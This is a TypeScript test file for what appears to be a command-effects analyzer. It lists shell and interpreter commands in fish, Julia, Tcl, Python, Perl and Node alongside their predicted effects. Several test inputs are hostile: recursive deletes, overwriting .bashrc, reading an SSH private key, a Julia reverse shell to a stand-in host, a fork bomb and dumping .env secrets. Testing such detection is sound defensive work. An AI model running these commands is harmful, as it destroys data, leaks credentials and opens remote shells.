import { testEffects } from "../../../support/effects-of.ts";

testEffects("programs of other languages", [
  { run: "fish -c 'rm -r src'", effects: ["delete /home/dev/project/src recursive"] },
  { run: "fish -c 'set x (id)'", effects: ['code fish "set x (id)"'] },
  {
    run: "elvish -c 'echo x > a.txt'",
    effects: ['write create /home/dev/project/a.txt = "x\\n"', 'code inline "echo x > a.txt"'],
  },
  {
    run: 'julia -e \'write("/home/dev/.bashrc", "x")\'',
    effects: [
      'code julia "write(\\"/home/dev/.bashrc\\", \\"x\\")"',
      "write truncate /home/dev/.bashrc = …",
    ],
  },
  {
    run: "tclsh <<< 'exec cat /home/dev/.ssh/id_rsa'",
    effects: ['code tcl "exec cat /home/dev/.ssh/id_rsa\\n"', "read unknown /home/dev/.ssh/id_rsa"],
  },
  {
    run: "julia -e 'sock = connect(\"x.test\", 1); while true; run(`$(readline(sock))`); end'",
    effects: [
      'code julia "sock = connect(\\"x.test\\", 1); while true; run(`$(readline(sock))`); end"',
      "connect … for shell",
    ],
  },
  {
    run: "python3 /tmp/x.py /srv",
    files: { "/tmp/x.py": "import shutil, sys; shutil.rmtree(sys.argv[1])" },
    effects: [
      'code python "import shutil, sys; shutil.rmtree(sys.argv[1])" judged',
      "delete /srv recursive",
    ],
  },
  {
    run: "python3 /tmp/x.py",
    files: { "/tmp/x.py": "import ctypes; ctypes.CDLL(None)" },
    effects: ["run /tmp/x.py foreign (/tmp/x.py)"],
  },
  {
    run: "python3 -c 'import helper; helper.run()'",
    files: { "helper.py": "x" },
    effects: [
      'code python "import helper; helper.run()" judged',
      "run /home/dev/project/helper.py foreign (/home/dev/project/helper.py)",
    ],
  },
  {
    run: "python3 -c 'import os; os.system(\"cd /srv && rm a\")'",
    effects: ['code python "import os; os.system(\\"cd /srv && rm a\\")" judged', "delete /srv/a"],
  },
  {
    run: 'python3 -c \'import subprocess; subprocess.run(["rm", "a"], cwd="/srv")\'',
    effects: [
      'code python "import subprocess; subprocess.run([\\"rm\\", \\"a\\"], cwd=\\"/srv\\")" judged',
      "delete /srv/a",
    ],
  },
  {
    run: "python3 -c 'print(\"rm a\")' | sh",
    effects: ['code python "print(\\"rm a\\")" judged', "delete /home/dev/project/a"],
  },
  {
    run: "python3 -c 'if 0: print(\"rm a\")' | sh",
    effects: ['code python "if 0: print(\\"rm a\\")" judged', "code shell …"],
  },
  {
    run: "python3 -c 'exec(open(\"a.py\").read())'",
    files: { "a.py": 'import os; os.remove("b")' },
    effects: [
      'code python "exec(open(\\"a.py\\").read())" judged',
      "read flows /home/dev/project/a.py",
      'code python "import os; os.remove(\\"b\\")" judged',
      "delete /home/dev/project/b",
    ],
  },
  {
    run: "python3 -c 'import numpy; numpy.save(\"/home/dev/.bashrc\", [])'",
    effects: [
      'code python "import numpy; numpy.save(\\"/home/dev/.bashrc\\", [])" judged',
      "opaque python: a library of python is given /home/dev/.bashrc",
    ],
  },
  {
    run: "perl -ne 'print' .env",
    files: { ".env": "A=b" },
    effects: [
      "read flows /home/dev/project/.env",
      'code perl "print" judged',
      "output … {secret .env}",
    ],
  },
  {
    run: "node -e 'require(\"./tool.js\")'",
    files: { "tool.js": "x" },
    git: { tracked: ["tool.js"] },
    effects: ['code javascript "require(\\"./tool.js\\")" judged', 'code javascript "x" judged'],
  },
  {
    run: 'python3 -c \'print("ls ", end="; rm a")\' | sh',
    effects: ['code python "print(\\"ls \\", end=\\"; rm a\\")" judged', "code shell …"],
  },
  {
    run: "perl -e 'fork while fork'",
    effects: [
      'code perl "fork while fork" judged',
      "exhaust what=a program starts copies of itself without end",
    ],
  },
  {
    run: "python3 -c 'import dotenv; dotenv.load_dotenv(\".env\")'",
    files: { ".env": "A=b" },
    effects: ['code python "import dotenv; dotenv.load_dotenv(\\".env\\")" judged'],
  },
]);
